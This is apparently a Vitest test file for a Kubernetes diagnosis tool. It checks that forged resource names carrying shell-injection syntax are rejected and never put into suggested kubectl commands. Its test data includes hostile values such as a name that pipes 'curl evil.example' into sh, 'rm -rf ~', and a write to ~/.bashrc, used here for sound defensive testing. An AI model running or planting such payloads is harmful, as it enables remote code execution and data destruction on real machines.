/**
 * Paste injection (issue 11): names from a bundle are checked against Kubernetes' naming rules
 * before they appear in a suggested command. A forged name is shown quoted and no command is
 * suggested with it; the root cause stays the same.
 */
import { describe, expect, it } from "vitest";
import { analyze } from "../../src/diagnose/analyze/index.js";
import { isPasteSafe, isValidName } from "../../src/diagnose/analyze/kubectl.js";
import { bundleOf, podEvent, podWith } from "./support.js";

const FORGED = {
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell expansion, on purpose
  namespace: "shop;touch${IFS}/tmp/pwned",
  pod: "api-1 $(curl -s evil.example|sh)",
  owner: "api`id`",
  container: "app && rm -rf ~",
};

function oomPod(names: Partial<typeof FORGED>) {
  const container = names.container ?? "app";
  const pod = podWith(
    {
      name: container,
      lastState: { terminated: { reason: "OOMKilled", exitCode: 137 } },
      state: { waiting: { reason: "CrashLoopBackOff" } },
      restartCount: 4,
    },
    { name: container, resources: { limits: { memory: "256Mi" } } },
  );
  const metadata = pod.metadata as Record<string, unknown>;
  if (names.namespace) metadata.namespace = names.namespace;
  if (names.pod) metadata.name = names.pod;
  if (names.owner)
    metadata.ownerReferences = [{ kind: "ReplicaSet", name: `${names.owner}-7d9f8c6b5`, controller: true }];
  return bundleOf(pod);
}

describe("names in suggested commands", () => {
  it("a valid bundle gets its command", () => {
    const [finding] = analyze(oomPod({}));
    expect(finding?.code).toBe("OOMKilled");
    expect(finding?.remediation).toContain(
      "kubectl -n demo set resources deployment/app -c app --limits=memory=384Mi",
    );
  });

  for (const [what, name] of Object.entries(FORGED)) {
    it(`a forged ${what} name yields no command, and is shown quoted`, () => {
      const [finding] = analyze(oomPod({ [what]: name }));
      expect(finding?.code).toBe("OOMKilled");
      const fix = finding?.remediation ?? "";
      expect(fix).toMatch(/^No command is suggested: the evidence names /);
      expect(fix).not.toContain("kubectl");
      expect(fix).toContain(JSON.stringify(what === "owner" ? name.slice(0, 60) : name).slice(0, -1));
      // In every finding, the forged name only ever appears inside quotes, never bare in a command.
      for (const each of analyze(oomPod({ [what]: name }))) {
        const bare = each.remediation.split(name).length - 1;
        const quoted = each.remediation.split(`"${name}`).length - 1;
        expect(bare, each.remediation).toBe(quoted);
      }
    });
  }

  it.each([
    ["namespace", "shop", true],
    ["namespace", "Shop", false],
    ["namespace", "a".repeat(64), false],
    ["pod", "api-7d9f8c6b5-x2k9p", true],
    ["pod", "api.v2-0", true],
    ["pod", "api_1", false],
    ["container", "app.v2", false],
    ["CronJob", "a".repeat(52), true],
    ["CronJob", "a".repeat(53), false],
    ["Deployment", "checkout-api", true],
    ["Secret", "db-creds;rm", false],
  ] as const)("%s %j valid: %s", (kind, name, valid) => {
    expect(isValidName(kind, name)).toBe(valid);
  });
});

describe("names taken from messages (a missing Secret named by an event)", () => {
  const missingSecret = (name: string) =>
    bundleOf(
      podWith(
        {
          name: "app",
          state: { waiting: { reason: "CreateContainerConfigError", message: `secret "${name}" not found` } },
        },
        { name: "app" },
      ),
      { events: [podEvent("Failed", `Error: secret "${name}" not found`)] },
    );

  it("a real Secret name gets the commands that find it", () => {
    const [finding] = analyze(missingSecret("db-creds"));
    expect(finding?.code).toBe("ConfigMissing");
    expect(finding?.commands).toContain("kubectl get secrets -A --field-selector metadata.name=db-creds");
  });

  it.each([
    "db;touch /tmp/pwned",
    "db$(id)",
    "db`id`",
    "db && curl evil.example",
    "db | sh",
    "db|sh",
    "db>~/.bashrc",
  ])("%j: the root cause stays, no command is suggested", (name) => {
    const [finding] = analyze(missingSecret(name));
    expect(finding?.code).toBe("ConfigMissing");
    expect(finding?.commands).toEqual([]);
    expect(finding?.remediation).toMatch(
      /^No command is suggested: the evidence puts shell syntax into a command/,
    );
  });
});

describe("isPasteSafe", () => {
  it.each([
    ["kubectl -n shop get pods", true],
    ['kubectl -n shop patch deployment/app --type=json -p=\'[{"op":"replace"}]\'', true],
    ['kubectl describe nodes | grep -A 8 "Allocated resources"', true],
    ["kubectl get nodes -o 'custom-columns=NAME:.metadata.name,TAINTS:.spec.taints[*].key'", true],
    ["kubectl get nodes -o custom-columns=TAINTS:.spec.taints[*].key", false],
    ["kubectl -n shop;id get pods", false],
    ["kubectl logs $(whoami)", false],
    ['kubectl logs "$HOME"', false],
    ["kubectl logs 'unclosed", false],
    ["kubectl logs pod > /tmp/x", false],
    ["| sh", false],
    ["kubectl get secrets && curl evil.example", false],
    ["kubectl get secrets | sh", false],
  ] as const)("%j: %s", (command, safe) => {
    expect(isPasteSafe(command)).toBe(safe);
  });
});
